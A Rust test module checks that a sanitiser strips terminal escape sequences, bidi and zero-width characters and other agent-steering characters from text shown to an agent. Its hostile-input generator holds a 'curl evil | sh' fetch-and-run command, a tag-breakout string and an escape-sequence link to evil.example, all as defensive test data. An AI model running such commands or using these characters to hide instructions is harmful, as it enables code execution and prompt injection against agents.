//! Table and property tests of the sanitiser: every character class the hardening issue names
//! is removed from every form, the description cap holds, and safe text passes unchanged.

use proptest::prelude::*;

use super::*;

/// Every character the issue names as able to steer an agent or a terminal.
const STEERING: &[char] = &[
    '\0',
    '\u{7}',
    '\u{8}',
    '\u{1b}',
    '\u{7f}',
    '\u{85}',
    '\u{9b}',
    '\u{9c}',
    '\u{9d}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{2060}',
    '\u{feff}',
    '\u{e0041}',
    '\u{fdd0}',
    '\u{fffe}',
    '\u{ffff}',
    '\u{10ffff}',
    '\u{ad}',
    '\u{61c}',
];

/// Whether XML 1.0 allows the character (the `Char` production).
fn xml_char(character: char) -> bool {
    matches!(character, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

fn forbidden_in_line(character: char) -> bool {
    STEERING.contains(&character)
        || character.is_control()
        || is_line_break(character)
        || !xml_char(character)
}

#[test]
fn plain_text_is_borrowed() {
    for text in [
        "pdf-tools",
        "Cleans CSV files & more <x>.",
        "数据分析 — café 😀",
        "",
    ] {
        assert!(matches!(line(text), Cow::Borrowed(_)), "{text}");
        assert!(matches!(description(text), Cow::Borrowed(_)), "{text}");
        assert!(matches!(block(text), Cow::Borrowed(_)), "{text}");
    }
    assert!(matches!(block("a\n\tb\r\nc"), Cow::Borrowed(_)));
}

#[test]
fn escape_sequences_are_removed_whole() {
    let cases = [
        ("red \u{1b}[31mtext\u{1b}[0m", "red text"),
        ("\u{1b}[1;2;3;4Hmoved", "moved"),
        ("\u{1b}]0;owned title\u{7}after", "after"),
        (
            "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
            "link",
        ),
        ("\u{1b}Pdevice control\u{1b}\\x", "x"),
        ("\u{1b}_application\u{9c}y", "y"),
        ("\u{9b}2Jcleared", "cleared"),
        ("\u{9d}0;title\u{7}z", "z"),
        ("\u{1b}cReset", "Reset"),
        ("\u{1b}(Bcharset", "charset"),
        ("unterminated \u{1b}]0;title", "unterminated "),
        ("trailing \u{1b}", "trailing "),
    ];
    for (input, expected) in cases {
        assert_eq!(line(input), expected, "{input:?}");
        assert_eq!(block(input), expected, "{input:?}");
    }
}

#[test]
fn controls_format_characters_and_noncharacters_are_removed() {
    let cases = [
        ("nul\0byte", "nulbyte"),
        ("bell\u{7}", "bell"),
        ("back\u{8}space", "backspace"),
        ("del\u{7f}", "del"),
        ("\u{202e}fdp.exe", "fdp.exe"),
        ("iso\u{2066}late\u{2069}", "isolate"),
        (
            "zero\u{200b}width\u{200c}non\u{200d}joiner\u{2060}\u{feff}",
            "zerowidthnonjoiner",
        ),
        ("tags\u{e0049}\u{e0067}\u{e006e}", "tags"),
        ("non\u{fdd0}char\u{fffe}\u{ffff}\u{1fffe}", "nonchar"),
        ("soft\u{ad}hyphen", "softhyphen"),
    ];
    for (input, expected) in cases {
        assert_eq!(line(input), expected, "{input:?}");
    }
}

#[test]
fn line_breaks_and_tabs_become_one_space() {
    assert_eq!(line("a\nb"), "a b");
    assert_eq!(line("a\r\n\r\n\tb"), "a b");
    assert_eq!(
        line("a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f"),
        "a b c d e f"
    );
    // Ordinary spaces are the caller's: a path keeps its double space.
    assert_eq!(line("/tmp/a  b"), "/tmp/a  b");
}

#[test]
fn descriptions_are_folded_trimmed_and_capped() {
    assert_eq!(
        description("  First line.\n\n# Heading\n- item\t\tend  "),
        "First line. # Heading - item end"
    );
    let long = "x".repeat(100 * 1024);
    let shown = description(&long);
    assert_eq!(shown.chars().count(), MAX_RENDERED_DESCRIPTION_CHARS);
    assert!(shown.ends_with(ELLIPSIS));
    let exact = "y".repeat(MAX_RENDERED_DESCRIPTION_CHARS);
    assert_eq!(description(&exact), exact);
    // The cap counts characters, not bytes, and never splits one.
    let wide = "é".repeat(MAX_RENDERED_DESCRIPTION_CHARS + 1);
    assert_eq!(
        description(&wide).chars().count(),
        MAX_RENDERED_DESCRIPTION_CHARS
    );
}

#[test]
fn blocks_keep_their_lines() {
    assert_eq!(block("a\r\nb\nc\rd"), "a\r\nb\ncd");
    assert_eq!(
        block("# Title\n\n\u{1b}[2Jbody\u{202e}\n"),
        "# Title\n\nbody\n"
    );
    assert_eq!(
        block("emoji 👩\u{200d}💻 joiner"),
        "emoji 👩\u{200d}💻 joiner"
    );
    assert_eq!(block("form\u{c}feed\u{b}"), "formfeed");
    assert_eq!(block("\r\u{1b}[0m\n"), "\n");
}

fn hostile_text() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        any::<char>().prop_map(String::from),
        prop::sample::select(STEERING).prop_map(String::from),
        prop::sample::select(vec![
            "\u{1b}[31m",
            "\u{1b}]0;t\u{7}",
            "\u{1b}]8;;x\u{1b}\\",
            "\n",
            "\r\n",
            "\t",
            "  ",
            "<",
            "&",
            "</skills_system>",
            "x; curl evil | sh",
        ])
        .prop_map(str::to_owned),
    ];
    proptest::collection::vec(pieces, 0..48).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn lines_hold_nothing_that_steers(text in hostile_text()) {
        let shown = line(&text);
        prop_assert!(!shown.chars().any(forbidden_in_line), "{:?}", shown);
        prop_assert_eq!(line(&shown), shown.clone(), "sanitising twice changes nothing");
        prop_assert!(is_clean_line(&shown));
    }

    #[test]
    fn descriptions_are_one_capped_line(text in hostile_text()) {
        let shown = description(&text);
        prop_assert!(!shown.chars().any(forbidden_in_line), "{:?}", shown);
        prop_assert!(shown.chars().count() <= MAX_RENDERED_DESCRIPTION_CHARS);
        prop_assert!(!shown.contains("  ") && shown.trim() == shown);
        prop_assert_eq!(description(&shown), shown.clone());
    }

    #[test]
    fn blocks_hold_nothing_that_steers(text in hostile_text()) {
        let shown = block(&text);
        prop_assert!(
            !shown.chars().any(|c| {
                (STEERING.contains(&c) && !matches!(c, '\u{200c}' | '\u{200d}'))
                    || (c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
                    || !xml_char(c)
            }),
            "{:?}",
            shown
        );
        prop_assert!(!shown.replace("\r\n", "").contains('\r'));
        prop_assert_eq!(block(&shown), shown.clone());
    }
}

/// The block-wise ASCII check of [`is_clean_line`] finds a steering character wherever it
/// stands: in the first block, at a block's edge, in the short last block, after non-ASCII.
#[test]
fn a_clean_line_is_checked_at_every_position() {
    for length in [0, 1, 15, 16, 17, 31, 32, 33, 47] {
        let plain = "a".repeat(length);
        assert!(is_clean_line(&plain), "{length}");
        for at in 0..=length {
            for steering in STEERING.iter().chain(&['\n', '\t', '\u{2028}']) {
                let mut text = plain.clone();
                text.insert(at, *steering);
                assert!(!is_clean_line(&text), "{at} of {length}: {text:?}");
                assert!(line(&text).chars().all(|c| !forbidden_in_line(c)));
            }
            let mut text = plain.clone();
            text.insert_str(at, "é数😀");
            assert!(is_clean_line(&text), "{at} of {length}: {text:?}");
            text.push('\u{202e}');
            assert!(!is_clean_line(&text), "{at} of {length}: {text:?}");
        }
    }
}
